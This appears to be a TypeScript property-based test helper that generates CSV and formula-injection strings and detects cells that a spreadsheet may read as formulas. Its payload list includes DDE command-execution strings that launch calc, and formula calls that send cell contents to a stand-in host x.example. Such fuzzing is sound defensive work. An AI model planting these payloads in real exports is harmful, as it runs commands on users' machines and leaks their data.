import * as fc from 'fast-check';

/**
 * What spreadsheets take for the beginning of a formula or a command: the six of OWASP, and their full-width forms,
 * which some of them fold. Source: OWASP, CSV Injection.
 */
const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '\n', '|', '%'];
/** What a program may skip or strip before it looks at the first sign. */
const leading = [
  ...['', '', '', ' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u200e', '\u2060', '\u00ad'],
  ...["'", "''", '"', '""', ' "', "' ", '\u2028', '\v', '\f', '\u202e', '\u180e', '\u034f'],
];
const payloads = [
  ...['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"y")'],
  ...['WEBSERVICE("http://x.example")', 'DDE("cmd";"/C calc";"x")', '2+5+cmd|x!A', 'x', ''],
  ...['IMPORTXML(CONCAT("http://x.example?",A1),"//a")', '1";=1+1;"', '1\n=1+1', '1\r=1+1'],
  ...['1,=1+1', '1\t=1+1', '1;=1+1', '-=1', '"=1', '\'=1"'],
];

const text = fc
  .tuple(
    fc.constantFrom(...leading),
    fc.constantFrom('', ...triggers, ...triggers),
    fc.constantFrom(...leading),
    fc.oneof(
      fc.constantFrom(...payloads),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(...leading, ...triggers, 'a'), maxLength: 6 }),
    ),
  )
  .map((parts) => parts.join('').replaceAll('\0', ''));

/** Texts as people and statements bring them, most of them meant to become a formula somewhere. */
export function hostileTexts(count: number, seed: number): string[] {
  return fc.sample(text, { numRuns: count, seed });
}

/**
 * Whether a spreadsheet may take a cell for a formula: by its first sign, and by the first that is neither a blank nor
 * invisible, because programs differ in what they skip. An amount is a number, and no formula.
 */
export function mayBeFormula(cell: string): boolean {
  if (/^-?\d+\.\d{4}$/.test(cell)) return false;
  const visible = Array.from(cell).filter((sign) => !/[\s\p{Cf}]/u.test(sign));
  return '=+-@＝＋－＠'.includes(visible[0] ?? '?') || '\t\r\n'.includes(cell[0] ?? '?');
}
